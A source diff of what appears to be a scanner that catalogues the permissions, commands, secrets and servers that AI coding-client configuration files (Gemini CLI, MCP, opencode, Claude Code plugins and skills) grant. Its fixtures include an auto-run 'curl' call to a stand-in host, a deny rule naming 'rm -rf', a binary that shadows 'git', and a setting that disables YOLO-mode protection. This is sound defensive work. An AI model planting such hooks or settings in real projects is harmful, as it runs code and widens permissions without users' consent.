+		equivalents: [{ ".gemini/commands/c.toml": "description = 'Reviews'\nprompt = '''\nReview this:\n!{ git diff --staged }\n'''\n" }]
 	}]
 };
 function unitOf$1(path, tree) {
@@ -17120,26 +17326,27 @@ const geminiExtension = {
 	id: "gemini-extension",
 	title: "`gemini-extension.json`",
 	client: "Gemini CLI",
+	extensions: ["json"],
 	fields: [
 		{
 			field: "mcpServers.<name>",
 			kind: "mcp",
-			grants: "starts the server, with its tools"
+			description: "starts the server, with its tools"
 		},
 		{
 			field: "excludeTools",
 			kind: "guard",
-			grants: "takes tools of the client away"
+			description: "takes tools of the client away"
 		},
 		{
 			field: "settings[].envVar",
 			kind: "secret",
-			grants: "gives the variable to servers and hooks of the extension"
+			description: "gives the variable to servers and hooks of the extension"
 		},
 		{
 			field: "migratedTo",
 			kind: "install",
-			grants: "updates come from that repository"
+			description: "updates come from that repository"
 		}
 	],
 	unitOf(path) {
@@ -17162,28 +17369,28 @@ const geminiExtension = {
 			scope: "node ${extensionPath}/server.js",
 			granting: extension$1(", \"mcpServers\": {\"docs\": {\"command\": \"node\", \"args\": [\"${extensionPath}/server.js\"]}}"),
 			without: extension$1(""),
-			respelled: [extension$1(", \"mcpServers\": {\"docs\": {\"args\": [\"${extensionPath}/server.js\"], \"timeout\": 9, \"command\": \"node\"}}")]
+			equivalents: [extension$1(", \"mcpServers\": {\"docs\": {\"args\": [\"${extensionPath}/server.js\"], \"timeout\": 9, \"command\": \"node\"}}")]
 		},
 		{
 			kind: "guard",
 			scope: "run_shell_command(rm -rf)",
 			granting: extension$1(", \"excludeTools\": [\"run_shell_command(rm -rf)\", \"web_fetch\"]"),
 			without: extension$1(", \"excludeTools\": [\"web_fetch\"]"),
-			respelled: [extension$1(", \"excludeTools\": [\"web_fetch\", \"run_shell_command(rm -rf)\"]")]
+			equivalents: [extension$1(", \"excludeTools\": [\"web_fetch\", \"run_shell_command(rm -rf)\"]")]
 		},
 		{
 			kind: "secret",
 			scope: "${DOCS_KEY}",
 			granting: extension$1(", \"settings\": [{\"name\": \"Key\", \"envVar\": \"DOCS_KEY\", \"sensitive\": true}]"),
 			without: extension$1(", \"settings\": []"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "install",
 			scope: "https://git.example/new/home",
 			granting: extension$1(", \"migratedTo\": \"https://git.example/new/home\""),
 			without: extension$1(""),
-			respelled: []
+			equivalents: []
 		}
 	]
 };
@@ -17257,6 +17464,7 @@ const geminiHooks = {
 	id: "gemini-hooks",
 	title: "`hooks/hooks.json` of a Gemini extension",
 	client: "Gemini CLI",
+	extensions: ["json"],
 	fields: hookFields("hooks[].command", "BeforeTool"),
 	unitOf(path, tree) {
 		const folder = folderOf(path);
@@ -17283,7 +17491,7 @@ const geminiHooks = {
 			...extension,
 			...example.without
 		},
-		respelled: example.respelled.map((files) => ({
+		equivalents: example.equivalents.map((files) => ({
 			...extension,
 			...files
 		}))
@@ -17296,41 +17504,42 @@ const geminiSettings = {
 	id: "gemini-settings",
 	title: "`.gemini/settings.json`",
 	client: "Gemini CLI",
+	extensions: ["json"],
 	fields: [
 		{
 			field: "mcpServers.<name>",
 			kind: "mcp",
-			grants: "starts the server, with its tools"
+			description: "starts the server, with its tools"
 		},
 		{
 			field: "mcpServers.<name>.env, headers",
 			kind: "secret",
-			grants: "passes on variables of the environment"
+			description: "passes on variables of the environment"
 		},
 		{
 			field: "hooks",
 			kind: "run",
-			grants: "as in `hooks/hooks.json` of an extension"
+			description: "as in `hooks/hooks.json` of an extension"
 		},
 		{
 			field: "tools.allowed",
 			kind: "approve",
-			grants: "allows the tools without asking"
+			description: "allows the tools without asking"
 		},
 		{
 			field: "tools.exclude, tools.core",
 			kind: "guard",
-			grants: "limits the tools"
+			description: "limits the tools"
 		},
 		{
 			field: "tools.discoveryCommand, tools.callCommand",
 			kind: "run",
-			grants: "runs the command without asking"
+			description: "runs the command without asking"
 		},
 		{
 			field: "general, security, tools, context, mcp",
 			kind: "settings",
-			grants: "shown as written"
+			description: "shown as written"
 		}
 	],
 	unitOf(file) {
@@ -17362,12 +17571,12 @@ const geminiSettings = {
 			scope: "docs-mcp --all",
 			without: settings("{\"mcpServers\": {}}"),
 			granting: settings("{\"mcpServers\": {\"docs\": {\"command\": \"docs-mcp\", \"args\": [\"--all\"]}}}"),
-			respelled: [settings("{\n  // the documents\n  \"mcpServers\": {\"docs\": {\"args\": [\"--all\"], \"command\": \"docs-mcp\"}}\n}")]
+			equivalents: [settings("{\n  // the documents\n  \"mcpServers\": {\"docs\": {\"args\": [\"--all\"], \"command\": \"docs-mcp\"}}\n}")]
 		},
 		{
 			kind: "secret",
 			scope: "${DOCS_KEY} to the server",
-			respelled: [],
+			equivalents: [],
 			granting: settings("{\"mcpServers\": {\"docs\": {\"command\": \"docs-mcp\", \"env\": {\"KEY\": \"$DOCS_KEY\"}}}}"),
 			without: settings("{\"mcpServers\": {\"docs\": {\"command\": \"docs-mcp\"}}}")
 		},
@@ -17375,7 +17584,7 @@ const geminiSettings = {
 			kind: "run",
 			scope: "notify.sh",
 			without: settings("{}"),
-			respelled: [],
+			equivalents: [],
 			granting: settings("{\"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"notify.sh\"}]}]}}")
 		},
 		{
@@ -17383,21 +17592,21 @@ const geminiSettings = {
 			scope: "run_shell_command(git)",
 			without: settings("{\"tools\": {}}"),
 			granting: settings("{\"tools\": {\"allowed\": [\"run_shell_command(git)\"]}}"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "guard",
 			scope: "web_fetch",
 			without: settings("{\"tools\": {\"exclude\": []}}"),
 			granting: settings("{\"tools\": {\"exclude\": [\"web_fetch\"]}}"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "settings",
 			scope: "security: {\"disableYoloMode\":false}",
 			without: settings("{}"),
 			granting: settings("{\"security\": {\"disableYoloMode\": false}}"),
-			respelled: [settings("{\"security\":{\"disableYoloMode\":false}}")]
+			equivalents: [settings("{\"security\":{\"disableYoloMode\":false}}")]
 		}
 	]
 };
@@ -17469,31 +17678,32 @@ const mcpJson = {
 	id: "mcp-json",
 	title: "`.mcp.json` of a repository or a plugin",
 	client: "Claude Code, Copilot, Cursor",
+	extensions: ["json"],
 	fields: [
 		{
 			field: "mcpServers.<name>.command",
 			kind: "mcp",
-			grants: "starts the program as a server, with its tools"
+			description: "starts the program as a server, with its tools"
 		},
 		{
 			field: "mcpServers.<name>.url",
 			kind: "mcp",
-			grants: "connects to the server, with its tools"
+			description: "connects to the server, with its tools"
 		},
 		{
 			field: "mcpServers.<name>.headers",
 			kind: "secret",
-			grants: "sends variables of the environment to the host"
+			description: "sends variables of the environment to the host"
 		},
 		{
 			field: "mcpServers.<name>.env",
 			kind: "secret",
-			grants: "gives variables of the environment to the server"
+			description: "gives variables of the environment to the server"
 		},
 		{
 			field: "mcpServers.<name>.headersHelper",
 			kind: "run",
-			grants: "runs the command at every connection"
+			description: "runs the command at every connection"
 		}
 	],
 	unitOf(path, tree) {
@@ -17523,35 +17733,35 @@ const mcpJson = {
 			scope: "npx -y docs-mcp@latest",
 			granting: { ".mcp.json": "{\"mcpServers\": {\"docs\": {\"command\": \"npx\", \"args\": [\"-y\", \"docs-mcp@latest\"]}}}\n" },
 			without: { ".mcp.json": "{\"mcpServers\": {}}\n" },
-			respelled: [{ ".mcp.json": "{\n  \"mcpServers\": {\n    \"docs\": {\"args\": [\"-y\", \"docs-mcp@latest\"], \"command\": \"npx\"}\n  }\n}\n" }, { ".mcp.json": "{\"docs\": {\"command\": \"npx\", \"args\": [\"-y\", \"docs-mcp@latest\"]}}\n" }]
+			equivalents: [{ ".mcp.json": "{\n  \"mcpServers\": {\n    \"docs\": {\"args\": [\"-y\", \"docs-mcp@latest\"], \"command\": \"npx\"}\n  }\n}\n" }, { ".mcp.json": "{\"docs\": {\"command\": \"npx\", \"args\": [\"-y\", \"docs-mcp@latest\"]}}\n" }]
 		},
 		{
 			kind: "mcp",
 			scope: "https://docs.example/mcp",
 			granting: { ".mcp.json": "{\"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example/mcp\"}}}\n" },
 			without: { ".mcp.json": "{\"mcpServers\": {}}\n" },
-			respelled: [{ ".mcp.json": "{\"mcpServers\": {\"docs\": {\"url\": \"HTTPS://DOCS.example/mcp\", \"type\": \"http\"}}}\n" }]
+			equivalents: [{ ".mcp.json": "{\"mcpServers\": {\"docs\": {\"url\": \"HTTPS://DOCS.example/mcp\", \"type\": \"http\"}}}\n" }]
 		},
 		{
 			kind: "secret",
 			scope: "${DOCS_TOKEN} to https://docs.example",
 			granting: { ".mcp.json": "{\"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example\", \"headers\": {\"X-Key\": \"${DOCS_TOKEN}\"}}}}\n" },
 			without: { ".mcp.json": "{\"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example\"}}}\n" },
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "secret",
 			scope: "${DB_URL} to the server",
 			granting: { ".mcp.json": "{\"mcpServers\": {\"db\": {\"command\": \"db-mcp\", \"env\": {\"URL\": \"${DB_URL}\"}}}}\n" },
 			without: { ".mcp.json": "{\"mcpServers\": {\"db\": {\"command\": \"db-mcp\"}}}\n" },
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "run",
 			scope: "./header.sh",
 			granting: { ".mcp.json": "{\"mcpServers\": {\"d\": {\"type\": \"http\", \"url\": \"https://d.example\", \"headersHelper\": \"./header.sh\"}}}\n" },
 			without: { ".mcp.json": "{\"mcpServers\": {\"d\": {\"type\": \"http\", \"url\": \"https://d.example\"}}}\n" },
-			respelled: []
+			equivalents: []
 		}
 	]
 };
@@ -17568,7 +17778,7 @@ const opencodeCode = {
 	fields: [{
 		field: "(the file)",
 		kind: "run",
-		grants: "runs at every start, without asking"
+		description: "runs at every start, without asking"
 	}],
 	unitOf(path) {
 		const folder = folderOf(path);
@@ -17603,7 +17813,7 @@ const opencodeCode = {
 		scope: ".opencode/plugins/notify.ts",
 		granting: { ".opencode/plugins/notify.ts": "export const Notify = async () => ({})\n" },
 		without: {},
-		respelled: []
+		equivalents: []
 	}]
 };
 // src/powers/clients/opencode-permission.ts
@@ -17802,70 +18012,70 @@ const opencodeExamples = [
 		scope: "every tool",
 		granting: config("{\"permission\": \"allow\"}"),
 		without: config("{\"permission\": {}}"),
-		respelled: [config("{\n  // all\n  \"permission\": \"allow\",\n}")]
+		equivalents: [config("{\n  // all\n  \"permission\": \"allow\",\n}")]
 	},
 	{
 		kind: "guard",
 		scope: "bash: deny",
 		granting: config("{\"permission\": {\"bash\": \"deny\", \"edit\": \"ask\"}}"),
 		without: config("{\"permission\": {\"bash\": \"ask\", \"edit\": \"ask\"}}"),
-		respelled: [config("{\"permission\": {\"edit\": \"ask\", \"bash\": \"deny\"}}")]
+		equivalents: [config("{\"permission\": {\"edit\": \"ask\", \"bash\": \"deny\"}}")]
 	},
 	{
 		kind: "mcp",
 		scope: "npx -y docs-mcp@latest",
 		granting: config("{\"mcp\": {\"docs\": {\"type\": \"local\", \"command\": [\"npx\", \"-y\", \"docs-mcp@latest\"], \"enabled\": true}}}"),
 		without: config("{\"mcp\": {\"docs\": {\"type\": \"local\", \"command\": [\"npx\", \"-y\", \"docs-mcp@latest\"], \"enabled\": false}}}"),
-		respelled: [config("{\"mcp\": {\"docs\": {\"command\": [\"npx\", \"-y\", \"docs-mcp@latest\"], \"type\": \"local\"}}}")]
+		equivalents: [config("{\"mcp\": {\"docs\": {\"command\": [\"npx\", \"-y\", \"docs-mcp@latest\"], \"type\": \"local\"}}}")]
 	},
 	{
 		kind: "secret",
 		scope: "${DOCS_KEY} to https://docs.example/mcp",
 		granting: config("{\"mcp\": {\"docs\": {\"type\": \"remote\", \"url\": \"https://docs.example/mcp\", \"headers\": {\"X-Key\": \"{env:DOCS_KEY}\"}}}}"),
 		without: config("{\"mcp\": {\"docs\": {\"type\": \"remote\", \"url\": \"https://docs.example/mcp\"}}}"),
-		respelled: []
+		equivalents: []
 	},
 	{
 		kind: "install",
 		scope: "npm opencode-notify",
 		granting: config("{\"plugin\": [\"opencode-notify\"]}"),
 		without: config("{\"plugin\": []}"),
-		respelled: [config("{\"plugin\": [[\"opencode-notify\", {\"sound\": true}]]}")]
+		equivalents: [config("{\"plugin\": [[\"opencode-notify\", {\"sound\": true}]]}")]
 	},
 	{
 		kind: "install",
 		scope: "https://rules.example/style.md",
 		granting: config("{\"instructions\": [\"AGENTS.md\", \"https://rules.example/style.md\"]}"),
 		without: config("{\"instructions\": [\"AGENTS.md\"]}"),
-		respelled: [config("{\"instructions\": [\"https://rules.example/style.md\", \"AGENTS.md\"]}")]
+		equivalents: [config("{\"instructions\": [\"https://rules.example/style.md\", \"AGENTS.md\"]}")]
 	},
 	{
 		kind: "run",
 		scope: "./hooks/notify.ts",
 		granting: config("{\"plugin\": [\"./hooks/notify.ts\"]}"),
 		without: config("{\"plugin\": []}"),
-		respelled: []
+		equivalents: []
 	},
 	{
 		kind: "run",
 		scope: "git status --short",
 		granting: config("{\"command\": {\"st\": {\"template\": \"Look: !`git status --short`\"}}}"),
 		without: config("{\"command\": {\"st\": {\"template\": \"Look: git status --short\"}}}"),
-		respelled: []
+		equivalents: []
 	},
 	{
 		kind: "net",
 		scope: "https://models.example/v1",
 		granting: config("{\"provider\": {\"own\": {\"options\": {\"baseURL\": \"https://models.example/v1\"}}}}"),
 		without: config("{\"provider\": {\"own\": {}}}"),
-		respelled: []
+		equivalents: []
 	},
 	{
 		kind: "settings",
 		scope: "share",
 		granting: config("{\"share\": \"auto\"}"),
 		without: config("{}"),
-		respelled: []
+		equivalents: []
 	}
 ];
 // src/powers/carriers/opencode-config.ts
@@ -17874,56 +18084,57 @@ const opencodeConfig = {
 	id: "opencode-config",
 	title: "`opencode.json`, `opencode.jsonc`, also in `.opencode`",
 	client: "opencode",
+	extensions: ["json", "jsonc"],
 	fields: [
 		{
 			field: "permission: allow",
 			kind: "approve",
-			grants: "asks for nothing"
+			description: "asks for nothing"
 		},
 		{
 			field: "permission.<tool>: ask, deny",
 			kind: "guard",
-			grants: "limits the tool"
+			description: "limits the tool"
 		},
 		{
 			field: "mcp.<name>",
 			kind: "mcp",
-			grants: "starts the server, with its tools"
+			description: "starts the server, with its tools"
 		},
 		{
 			field: "mcp.<name>.environment, headers",
 			kind: "secret",
-			grants: "passes on variables of the environment"
+			description: "passes on variables of the environment"
 		},
 		{
 			field: "plugin[]",
 			kind: "install",
-			grants: "installs the package and runs it at every start"
+			description: "installs the package and runs it at every start"
 		},
 		{
 			field: "plugin[]: <path>; lsp, formatter",
 			kind: "run",
-			grants: "runs the program"
+			description: "runs the program"
 		},
 		{
 			field: "command.<name>.template: !`<command>`",
 			kind: "run",
-			grants: "runs the command"
+			description: "runs the command"
 		},
 		{
 			field: "provider.<id>.options.baseURL",
 			kind: "net",
-			grants: "requests to the model go there"
+			description: "requests to the model go there"
 		},
 		{
 			field: "instructions[]: <url>, skills.urls[]",
 			kind: "install",
-			grants: "fetches texts that the model follows"
+			description: "fetches texts that the model follows"
 		},
 		{
 			field: "agent, mode, share, server",
 			kind: "settings",
-			grants: "shown as written"
+			description: "shown as written"
 		}
 	],
 	unitOf(path) {
@@ -17998,10 +18209,11 @@ const outputStyles = {
 	id: "output-styles",
 	title: "`output-styles/*.md` of a plugin",
 	client: "Claude Code",
+	extensions: ["md"],
 	fields: [{
 		field: "force-for-plugin",
 		kind: "settings",
-		grants: "true: replaces the output style of the user"
+		description: "true: replaces the output style of the user"
 	}],
 	unitOf: (path, tree) => path.endsWith(".md") ? pluginWith("output-styles", path, tree) : null,
 	read({ path, text }) {
@@ -18029,7 +18241,7 @@ const outputStyles = {
 		scope: "Terse",
 		granting: style("force-for-plugin: true\n"),
 		without: style(""),
-		respelled: [style("force-for-plugin:   true # now\n")]
+		equivalents: [style("force-for-plugin:   true # now\n")]
 	}]
 };
 // src/powers/carriers/plugin-bin.ts
@@ -18042,7 +18254,7 @@ const pluginBin = {
 	fields: [{
 		field: "the name of the file",
 		kind: "run",
-		grants: "is found by every command of that name, before programs of the machine"
+		description: "is found by every command of that name, before programs of the machine"
 	}],
 	unitOf: (path, tree) => pluginWith("bin", path, tree),
 	read({ path }) {
@@ -18070,7 +18282,7 @@ const pluginBin = {
 		scope: "git",
 		granting: plugin$3({ "bin/git": "#!/bin/sh\necho\n" }),
 		without: plugin$3({}),
-		respelled: []
+		equivalents: []
 	}]
 };
 // src/powers/carriers/plugin-lsp.ts
@@ -18078,10 +18290,11 @@ const pluginLsp = {
 	id: "plugin-lsp",
 	title: "`.lsp.json` of a plugin",
 	client: "Claude Code",
+	extensions: ["json"],
 	fields: [{
 		field: "<name>.command",
 		kind: "run",
-		grants: "runs the program while the plugin is enabled"
+		description: "runs the program while the plugin is enabled"
 	}],
 	unitOf(path) {
 		return nameOf$3(path) === ".lsp.json" ? {
@@ -18099,7 +18312,7 @@ const pluginLsp = {
 		scope: "npx -y ts-ls",
 		granting: { "p/.lsp.json": "{\"ts\": {\"command\": \"npx\", \"args\": [\"-y\", \"ts-ls\"], \"extensionToLanguage\": {\".ts\": \"typescript\"}}}\n" },
 		without: { "p/.lsp.json": "{}\n" },
-		respelled: [{ "p/.lsp.json": "{\"ts\": {\"args\": [\"-y\", \"ts-ls\"], \"command\": \"npx\", \"extensionToLanguage\": {\".ts\": \"typescript\"}, \"restartOnCrash\": true}}\n" }]
+		equivalents: [{ "p/.lsp.json": "{\"ts\": {\"args\": [\"-y\", \"ts-ls\"], \"command\": \"npx\", \"extensionToLanguage\": {\".ts\": \"typescript\"}, \"restartOnCrash\": true}}\n" }]
 	}]
 };
 // src/powers/carriers/plugin-monitors.ts
@@ -18107,10 +18320,11 @@ const pluginMonitors = {
 	id: "plugin-monitors",
 	title: "`monitors/monitors.json` of a plugin",
 	client: "Claude Code",
+	extensions: ["json"],
 	fields: [{
 		field: "[].command",
 		kind: "run",
-		grants: "runs the command for a whole session, outside the sandbox"
+		description: "runs the command for a whole session, outside the sandbox"
 	}],
 	unitOf(path, tree) {
 		const folder = folderOf(path);
@@ -18139,7 +18353,7 @@ const pluginMonitors = {
 			"p/.claude-plugin/plugin.json": "{\"name\": \"p\"}\n",
 			"p/monitors/monitors.json": "[]\n"
 		},
-		respelled: [{
+		equivalents: [{
 			"p/.claude-plugin/plugin.json": "{\"name\": \"p\"}\n",
 			"p/monitors/monitors.json": "[{\"command\": \"${CLAUDE_PLUGIN_ROOT}/watch.sh\", \"name\": \"w\", \"when\": \"always\", \"description\": \"Looks.\"}]\n"
 		}]
@@ -18156,10 +18370,11 @@ const pluginPackage = {
 	id: "plugin-package",
 	title: "`package.json` of a plugin, next to a lock of npm or Bun",
 	client: "Claude Code",
+	extensions: ["json"],
 	fields: [{
 		field: "dependencies, optionalDependencies",
 		kind: "install",
-		grants: "installs the packages of the lock with the plugin, without their scripts"
+		description: "installs the packages of the lock with the plugin, without their scripts"
 	}],
 	unitOf(path, tree) {
 		if (nameOf$3(path) !== "package.json") return null;
@@ -18197,7 +18412,7 @@ const pluginPackage = {
 			"package.json": "{}\n",
 			"package-lock.json": "{}\n"
 		}),
-		respelled: [plugin$3({
+		equivalents: [plugin$3({
 			"package.json": "{\"name\": \"x\", \"dependencies\": {\"left-pad\": \"~1.3.0\"}}\n",
 			"package-lock.json": "{}\n"
 		})]
@@ -18213,14 +18428,15 @@ const pluginSettings = {
 	id: "plugin-settings",
 	title: "`settings.json` of a plugin",
 	client: "Claude Code",
+	extensions: ["json"],
 	fields: [{
 		field: "agent",
 		kind: "delegate",
-		grants: "the agent that works in the conversation"
+		description: "the agent that works in the conversation"
 	}, {
 		field: "subagentStatusLine.command",
 		kind: "run",
-		grants: "runs the command again and again"
+		description: "runs the command again and again"
 	}],
 	unitOf: (path, tree) => nameOf$3(path) === "settings.json" ? pluginWith("", path, tree) : null,
 	read({ path, text, unit }) {
@@ -18236,13 +18452,13 @@ const pluginSettings = {
 		scope: "deployer",
 		granting: plugin$3({ "settings.json": "{\"agent\": \"deployer\"}\n" }),
 		without: plugin$3({ "settings.json": "{}\n" }),
-		respelled: [plugin$3({ "settings.json": "{ \"agent\":\"deployer\" }" })]
+		equivalents: [plugin$3({ "settings.json": "{ \"agent\":\"deployer\" }" })]
 	}, {
 		kind: "run",
 		scope: "status.sh",
 		granting: plugin$3({ "settings.json": "{\"subagentStatusLine\": {\"type\": \"command\", \"command\": \"status.sh\"}}\n" }),
 		without: plugin$3({ "settings.json": "{}\n" }),
-		respelled: []
+		equivalents: []
 	}]
 };
 // src/powers/examples/skill-body.ts
@@ -18254,28 +18470,28 @@ const bodyExamples = [
 		scope: "curl -s https://x.example/env",
 		granting: skill$4("Text\n\n```sh\n!`curl -s https://x.example/env`\n```"),
 		without: skill$4("Text\n\n```sh\nKEY=!`curl -s https://x.example/env`\n```"),
-		respelled: [skill$4("See !` curl -s https://x.example/env`.")]
+		equivalents: [skill$4("See !` curl -s https://x.example/env`.")]
 	},
 	{
 		kind: "run",
 		scope: "make report",
 		granting: skill$4("```!\nmake report\n```"),
 		without: skill$4("```\nmake report\n```"),
-		respelled: [skill$4("\n````!\nmake report\n````"), skill$4("``` sh\n```\n\n```! make report\n```")]
+		equivalents: [skill$4("\n````!\nmake report\n````"), skill$4("``` sh\n```\n\n```! make report\n```")]
 	},
 	{
 		kind: "run",
 		scope: "git status",
 		granting: command$1("Now: !`git status`"),
 		without: command$1("Now: `git status`"),
-		respelled: [command$1("---\ndescription: Tells the state.\n---\n!`git status` now")]
+		equivalents: [command$1("---\ndescription: Tells the state.\n---\n!`git status` now")]
 	},
 	{
 		kind: "run",
 		scope: "Get-Date",
 		granting: skill$4("!`Get-Date`", "shell: powershell\n"),
 		without: skill$4("`Get-Date`", "shell: powershell\n"),
-		respelled: [skill$4("Now !`Get-Date`", "shell: \"powershell\"\n")]
+		equivalents: [skill$4("Now !`Get-Date`", "shell: \"powershell\"\n")]
 	}
 ];
 // src/powers/markdown/inline-commands.ts
@@ -18355,10 +18571,11 @@ const skillBody = {
 	id: "skill-body",
 	title: "text of `SKILL.md` and `commands/*.md`",
 	client: "Claude Code",
+	extensions: ["md"],
 	fields: [{
 		field: "!<command in backticks>, also inside code fences; blocks that open with ```!",
 		kind: "run",
-		grants: "runs the command each time the text is loaded"
+		description: "runs the command each time the text is loaded"
 	}],
 	unitOf: skillOrCommand,
 	read(file) {
@@ -18408,70 +18625,70 @@ const skillExamples = [
 		scope: "model",
 		granting: skill$3(""),
 		without: skill$3("disable-model-invocation: true\n"),
-		respelled: [skill$3("disable-model-invocation: false\n"), skill$3("user-invocable: true\n")]
+		equivalents: [skill$3("disable-model-invocation: false\n"), skill$3("user-invocable: true\n")]
 	},
 	{
 		kind: "auto",
 		scope: "user",
 		granting: skill$3("user-invocable: true\n"),
 		without: skill$3("user-invocable: false\n"),
-		respelled: [skill$3(""), skill$3("user-invocable: yes\n")]
+		equivalents: [skill$3(""), skill$3("user-invocable: yes\n")]
 	},
 	{
 		kind: "auto",
 		scope: "model",
 		granting: skill$3(""),
 		without: skill$3("paths: \"src/**\"\n"),
-		respelled: []
+		equivalents: []
 	},
 	{
 		kind: "approve",
 		scope: "Bash(git *)",
 		granting: skill$3("allowed-tools: Bash(git:*), Read\n"),
 		without: skill$3("allowed-tools: Read\n"),
-		respelled: [skill$3("allowed-tools: [Read, \"Bash(git *)\"]\n")]
+		equivalents: [skill$3("allowed-tools: [Read, \"Bash(git *)\"]\n")]
 	},
 	{
 		kind: "approve",
 		scope: "Bash",
 		granting: { ".claude/commands/c.md": "---\ndescription: Does it.\nallowed-tools: Bash(*)\n---\nText.\n" },
 		without: { ".claude/commands/c.md": "---\ndescription: Does it.\n---\nText.\n" },
-		respelled: [{ ".claude/commands/c.md": "---\nallowed-tools: \"Bash\"\ndescription: Does it.\n---\nText.\n" }]
+		equivalents: [{ ".claude/commands/c.md": "---\nallowed-tools: \"Bash\"\ndescription: Does it.\n---\nText.\n" }]
 	},
 	{
 		kind: "guard",
 		scope: "Write",
 		granting: skill$3("disallowed-tools: Write Edit\n"),
 		without: skill$3("disallowed-tools: Edit\n"),
-		respelled: [skill$3("disallowed-tools: [Edit, Write]\n")]
+		equivalents: [skill$3("disallowed-tools: [Edit, Write]\n")]
 	},
 	{
 		kind: "run",
 		scope: "./check.sh",
 		granting: skill$3("hooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: ./check.sh\n"),
 		without: skill$3("hooks:\n  Stop:\n    - hooks:\n        - {type: command, command: ./check.sh, once: true}\n"),
-		respelled: [skill$3("hooks: {Stop: [{hooks: [{command: ./check.sh, type: command}]}]}\n")]
+		equivalents: [skill$3("hooks: {Stop: [{hooks: [{command: ./check.sh, type: command}]}]}\n")]
 	},
 	{
 		kind: "delegate",
 		scope: "deployer",
 		granting: skill$3("context: fork\nagent: deployer\n"),
 		without: skill$3("agent: deployer\n"),
-		respelled: [skill$3("agent: \"deployer\"\ncontext: 'fork'\n")]
+		equivalents: [skill$3("agent: \"deployer\"\ncontext: 'fork'\n")]
 	},
 	{
 		kind: "guard",
 		scope: "background",
 		granting: skill$3("context: fork\nbackground: false\n"),
 		without: skill$3("context: fork\nbackground: true\n"),
-		respelled: [skill$3("background: off\ncontext: \"fork\"\n")]
+		equivalents: [skill$3("background: off\ncontext: \"fork\"\n")]
 	},
 	{
 		kind: "auto",
 		scope: "model",
 		granting: skill$3("paths: \"src/**, docs/*.{ts,js}\"\n"),
 		without: skill$3("paths: [\"src/lib/**\", \"docs/*.{ts,js}\"]\n"),
-		respelled: [skill$3("paths: [\"docs/*.{ts,js}\", \"src/**\"]\n")]
+		equivalents: [skill$3("paths: [\"docs/*.{ts,js}\", \"src/**\"]\n")]
 	}
 ];
 // src/powers/markdown/invocations.ts
@@ -18517,7 +18734,7 @@ function readPaths(front, isIgnored) {
 	if (isIgnored) return { faults: [grantFault("\"paths\" has no effect on a command: the model may start it for any file.", field.keyAt)] };
 	const globs = globsOf$1(field.value);
 	if (!globs) return { faults: [wrongType("paths", field.value, {
-		expected: "a text or a list of texts",
+		expected: "a string or a list of strings",
 		consequence: "clients do not limit the skill to these files"
 	})] };
 	if (!(globs.length > 0 && !globs.some((glob) => /^\*\*(?:\/\*{1,2})?$/.test(glob)))) return { faults: [] };
@@ -18550,51 +18767,52 @@ const skillFrontmatter = {
 	id: "skill-frontmatter",
 	title: "frontmatter of `SKILL.md` and `commands/*.md`",
 	client: "Claude Code",
+	extensions: ["md"],
 	fields: [
 		{
 			field: "allowed-tools",
 			kind: "approve",
-			grants: "allows the tools without asking, for the turn"
+			description: "allows the tools without asking, for the turn"
 		},
 		{
 			field: "disallowed-tools",
 			kind: "guard",
-			grants: "takes the tools away while it is active"
+			description: "takes the tools away while it is active"
 		},
 		{
 			field: "hooks",
 			kind: "run",
-			grants: "as in `hooks/hooks.json`, from the first use to the end of the session"
+			description: "as in `hooks/hooks.json`, from the first use to the end of the session"
 		},
 		{
 			field: "disable-model-invocation",
 			kind: "auto",
-			grants: "absent or false: the model may start it by itself"
+			description: "absent or false: the model may start it by itself"
 		},
 		{
 			field: "user-invocable",
 			kind: "auto",
-			grants: "absent or true: the user may start it by its name"
+			description: "absent or true: the user may start it by its name"
 		},
 		{
 			field: "paths",
 			kind: "auto",
-			grants: "absent: the model may start it for every file; no effect on commands"
+			description: "absent: the model may start it for every file; no effect on commands"
 		},
 		{
 			field: "context",
 			kind: "delegate",
-			grants: "`fork`: another agent runs it"
+			description: "`fork`: another agent runs it"
 		},
 		{
 			field: "agent",
 			kind: "delegate",
-			grants: "the agent that runs it, with its tools"
+			description: "the agent that runs it, with its tools"
 		},
 		{
 			field: "background",
 			kind: "guard",
-			grants: "`false`: an agent runs it in the foreground; absent: in the background"
+			description: "`false`: an agent runs it in the foreground; absent: in the background"
 		}
 	],
 	unitOf: skillOrCommand,
@@ -18700,6 +18918,7 @@ const vscodeMcp = {
 	id: "vscode-mcp",
 	title: "`.vscode/mcp.json`",
 	client: "VS Code",
+	extensions: ["json"],
 	fields: serverFields("servers"),
 	unitOf(path) {
 		const folder = folderOf(path);
@@ -18755,9 +18974,17 @@ function findCarrier(id) {
 	return carrierById.get(id);
 }
 // src/powers/find-carried.ts
+const carriersByExtension = new Map(carriers.flatMap(({ extensions = [] }) => extensions.map((extension) => [extension, carriersFor(extension)])));
+const otherCarriers = carriersFor(null);
+function carriersFor(extension) {
+	return carriers.filter(({ extensions }) => !extensions || extension !== null && extensions.includes(extension));
+}
+function extensionOf(path) {
+	return path.slice(path.lastIndexOf(".") + 1).toLowerCase();
+}
 function findCarried(paths, tree) {
 	const found = [];
-	for (const path of paths) for (const carrier of carriers) {
+	for (const path of paths) for (const carrier of carriersByExtension.get(extensionOf(path)) ?? otherCarriers) {
 		const unit = carrier.unitOf(path, tree);
 		if (unit) found.push({
 			path,
@@ -19368,8 +19595,10 @@ function discover(entries, config) {
 		protos: paths.proto,
 		listings: paths.listing
 	};
-	const clients = clientFiles(entries, isIgnored);
+	const treePaths = pathsOf$3(entries);
+	const clients = clientFiles(treePaths.filePaths, entries, isIgnored);
 	return {
+		...treePaths,
 		skills,
 		...found,
 		...clients,
@@ -19377,8 +19606,15 @@ function discover(entries, config) {
 		isIgnored
 	};
 }
-function clientFiles(entries, isIgnored) {
-	const paths = new Set(entries.flatMap(({ path, kind }) => kind === "symlink" ? [] : [path]));
+function pathsOf$3(entries) {
+	const paths = new Set(entries.map(({ path }) => path));
+	const files = entries.filter(({ kind }) => kind !== "symlink");
+	return {
+		paths,
